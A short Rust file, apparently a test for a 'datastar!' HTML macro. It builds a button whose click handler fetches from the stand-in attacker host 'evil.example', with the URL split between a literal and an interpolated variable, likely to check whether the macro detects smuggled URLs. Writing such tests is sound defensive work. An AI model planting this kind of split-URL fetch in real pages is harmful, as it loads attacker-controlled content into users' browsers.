use datastar_core::prelude::*;

fn main() {
    let rest = "tp://evil.example";
    let _ = datastar! {
        elements "<button id=\"b\" data-on:click=\"@get('ht" (rest) "')\">b</button>";
    };
}
